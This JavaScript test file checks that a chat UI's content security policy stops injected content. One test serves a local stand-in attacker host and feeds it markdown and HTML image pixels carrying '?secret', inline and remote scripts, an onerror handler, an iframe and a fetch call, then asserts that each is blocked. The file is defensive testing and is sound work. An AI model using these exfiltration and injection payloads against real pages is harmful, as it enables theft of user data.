// The UI under its content policy: it works without a breach, and what a model smuggles in neither runs nor
// loads.

import assert from "node:assert/strict";
import nodeHttp from "node:http";
import { after, describe, test } from "node:test";
import { launch, open, shot, ui } from "./lib/browser.mjs";
import { onEnd } from "./lib/cleanup.mjs";
import { Server } from "./lib/server.mjs";
import { until } from "./lib/wait.mjs";

const server = await Server.start({ after });
const browser = await launch({ after });

/** Breaches of the policy in this page, from its first script on. */
const watched = async (t, options = {}) => {
  const window = ui(await open(t, browser, "about:blank", options));
  await window.page.addInitScript(() => {
    window.breaches = [];
    document.addEventListener("securitypolicyviolation", (event) => window.breaches.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
  });
  await window.page.goto(server.url);
  await window.composer.waitFor();
  return Object.assign(window, { breaches: () => window.page.evaluate(() => window.breaches) });
};

const RICH = [
  "# A heading", "Some **bold** text, a [link](https://a.example/) and `code`.", "| a | b |\n|:-:|--:|\n| 1 | 2 |",
  "```rust\nfn main() { println!(\"hi\"); }\n```", "```mermaid\ngraph TD; A-->B\n```", "1. one\n2. two\n- [x] done", "> a quote", "$x^2$",
].join("\n\n");

describe("the content policy of the UI", { concurrency: 2 }, () => {
  for (const colorScheme of ["light", "dark"]) {
    test(`the UI works without a breach (${colorScheme})`, async (t) => {
      const window = await watched(t, { colorScheme });
      await window.say(`/script ${JSON.stringify({ deltas: [RICH] })}`);
      await window.status("complete");
      await window.answer.locator("pre").first().waitFor();
      await until(() => window.answer.locator("pre span[style]").count(), { what: "the code to be coloured" });
      await window.say("hello again");
      await until(async () => (await window.messages.locator('[data-role="assistant"][data-status="complete"]').count()) === 2, { what: "both answers" });
      await window.composer.hover();
      assert.deepEqual(await window.breaches(), []);
      await window.page.reload();
      await window.answer.waitFor();
      await shot(window.page, `csp-${colorScheme}`);
      assert.deepEqual(await window.breaches(), []);
      assert.deepEqual(window.page.faults, []);
    });
  }

  test("an inline script, a handler, a remote script and a remote image are stopped", async (t) => {
    const heard = [];
    const evil = nodeHttp.createServer((request, response) => {
      heard.push(request.url);
      response.end("window.stolen = true");
    });
    await new Promise((resolve) => evil.listen(0, "127.0.0.1", resolve));
    onEnd(t, () => new Promise((resolve) => evil.close(resolve)));
    const address = `http://127.0.0.1:${evil.address().port}`;
    const window = await watched(t);
    await window.say(`/script ${JSON.stringify({ deltas: [`![pixel](${address}/markdown?secret)  <img src="${address}/html"> <script>window.stolen = true</script>`] })}`);
    await window.status("complete");
    // As if the renderer had let it through.
    await window.page.evaluate((address) => {
      const script = document.createElement("script");
      script.textContent = "window.stolen = true";
      document.body.append(script);
      const remote = document.createElement("script");
      remote.src = `${address}/script.js`;
      document.body.append(remote);
      const image = new Image();
      image.src = `${address}/image?secret`;
      document.body.append(image);
      const handler = document.createElement("div");
      handler.innerHTML = '<img src="/nothing.png" onerror="window.stolen = true"><b style="color: red">x</b>';
      document.body.append(handler);
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
      fetch(`${address}/fetch?secret`).catch(() => {});
    }, address);
    const directives = ["script-src-elem", "script-src-attr", "img-src", "connect-src", "style-src-attr", "frame-src"];
    await until(async () => {
      const breaches = await window.breaches();
      return directives.every((directive) => breaches.some((breach) => breach.startsWith(directive)));
    }, { what: "every breach to be reported" });
    assert.equal(await window.page.evaluate(() => window.stolen), undefined);
    assert.deepEqual(heard, []);
  });

  test("a page that the browser has already keeps its policy", async (t) => {
    const window = await watched(t);
    for (let n = 0; n < 3; n += 1) {
      await window.page.reload();
      await window.composer.waitFor();
      assert.deepEqual(await window.breaches(), []);
    }
    const page = await fetch(server.url);
    const again = await fetch(server.url, { headers: { "if-none-match": page.headers.get("etag") } });
    assert.equal(again.status, 304);
    assert.equal(again.headers.get("content-security-policy"), page.headers.get("content-security-policy"));
  });

  test("images of other sites are shown where the configuration says so", async () => {
    const open = await Server.start({ after }, { config: "[security]\nremote_images = true\n" });
    const policyOf = async ({ url }) => (await fetch(url)).headers.get("content-security-policy");
    assert.match(await policyOf(open), /img-src 'self' data: blob: https:;/);
    assert.match(await policyOf(server), /img-src 'self' data: blob:;/);
  });
});
